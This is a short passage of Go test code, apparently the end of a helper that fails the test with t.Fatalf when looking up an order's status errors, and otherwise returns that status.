		t.Fatalf("order %s: %+v, %v", id, st, err)
	}
	return st
}
